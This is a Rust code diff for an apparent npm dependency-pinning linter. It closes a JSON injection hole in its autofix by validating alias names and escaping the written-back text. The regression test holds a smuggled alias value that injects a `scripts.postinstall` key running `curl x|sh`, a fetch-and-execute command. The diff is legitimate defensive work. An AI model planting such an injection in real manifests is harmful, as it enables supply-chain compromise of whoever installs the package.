@@ -233,8 +233,9 @@ fn report_unpinned(
     let mut d = sink
         .diag_at(severity, spec_span(entry), message)
         .with_help(help);
-    if let Some(v) = target {
-        let text = replacement(spec, &v);
+    if let Some((v, text)) =
+        target.and_then(|v| Some((fix_text(spec, &v)?, v)).map(|(t, v)| (v, t)))
+    {
         d = d.with_fix(Fix {
             description: format!("pin `{}` to {text}", entry.package),
             edits: vec![Edit {
@@ -247,6 +248,41 @@ fn report_unpinned(
         });
     }
     sink.push(d);
+}
+
+/// The bytes a fix writes between the spec's quotes: the pinned spec as a
+/// JSON string's contents. None for an alias whose name is not a package
+/// name npm accepts: the manifest is the pull request's, and the name is
+/// written back (`npm:x\"},\"scripts\":{…}@^1` must not become keys).
+fn fix_text(spec: &Spec, v: &Version) -> Option<String> {
+    if spec
+        .alias_of
+        .as_deref()
+        .is_some_and(|name| !is_package_name(name))
+    {
+        return None;
+    }
+    let quoted = serde_json::to_string(&replacement(spec, v)).ok()?;
+    Some(quoted.get(1..quoted.len().saturating_sub(1))?.to_string())
+}
+
+/// npm's rule for new package names (validate-npm-package-name): an
+/// optional `@scope/`, then URL-safe lowercase characters.
+fn is_package_name(name: &str) -> bool {
+    let part = |s: &str| {
+        !s.is_empty()
+            && !s.starts_with(['.', '_'])
+            && s.bytes()
+                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b"-._~".contains(&b))
+    };
+    let bare = match name.strip_prefix('@') {
+        Some(scoped) => match scoped.split_once('/') {
+            Some((scope, rest)) => part(scope).then_some(rest),
+            None => None,
+        },
+        None => Some(name),
+    };
+    name.len() <= 214 && bare.is_some_and(part)
 }
 
 /// The pinned spec text, keeping an `npm:` alias prefix.
@@ -423,6 +459,39 @@ mod tests {
         let diags = lint_dir(dir.path(), &config);
         assert_eq!(diags.len(), 1);
         assert!(diags[0].message.starts_with("`left-pad`"));
+    }
+
+    /// The alias name is the pull request's and was written back unescaped:
+    /// the fixed manifest gained a top-level `scripts.postinstall`.
+    #[test]
+    fn a_fix_never_adds_keys_to_the_manifest() {
+        let dir = tempfile::tempdir().unwrap();
+        let evil = r#"npm:@a5c-ai/babysitter-sdk\"},\"scripts\":{\"postinstall\":\"curl x|sh\"},\"x\":{\"y\":\"@^0.3.1"#;
+        let text = format!(r#"{{"dependencies": {{"@a5c-ai/babysitter-sdk": "{evil}"}}}}"#);
+        let before: serde_json::Value = serde_json::from_str(&text).unwrap();
+        std::fs::write(dir.path().join("package.json"), &text).unwrap();
+        std::fs::write(
+            dir.path().join("package-lock.json"),
+            r#"{"lockfileVersion": 3, "packages": {"node_modules/@a5c-ai/babysitter-sdk": {"version": "0.3.4"}}}"#,
+        )
+        .unwrap();
+        let diags = lint_dir(dir.path(), &Config::default());
+        assert!(!diags.is_empty());
+        for d in &diags {
+            let Some(fix) = &d.fix else { continue };
+            let fixed = apply(&text, fix);
+            let after: serde_json::Value = serde_json::from_str(&fixed).unwrap();
+            assert_eq!(
+                after.as_object().map(|o| o.len()),
+                before.as_object().map(|o| o.len())
+            );
+            assert!(after.get("scripts").is_none(), "{fixed}");
+        }
+        // A name npm accepts keeps its fix, escaped as JSON.
+        assert!(is_package_name("@a5c-ai/babysitter-sdk") && is_package_name("left-pad"));
+        assert!(
+            !is_package_name("@a5c-ai/x\"}") && !is_package_name("Upper") && !is_package_name("@s")
+        );
     }
 
     #[test]
